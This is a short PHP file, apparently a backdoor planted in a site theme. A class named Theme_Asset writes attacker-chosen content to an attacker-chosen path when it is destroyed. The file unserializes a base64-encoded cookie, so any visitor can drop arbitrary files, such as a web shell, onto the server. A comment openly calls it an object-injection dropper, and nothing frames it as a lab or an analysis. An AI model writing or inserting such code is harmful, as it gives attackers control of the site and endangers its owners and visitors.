<?php
// an object-injection dropper: the cookie's object names the file and its content
class Theme_Asset {
    public $target;
    public $content;
    public function __destruct() {
        @file_put_contents($this->target, $this->content);
    }
}
if (!empty($_COOKIE['ta'])) {
    unserialize(base64_decode($_COOKIE['ta']));
}
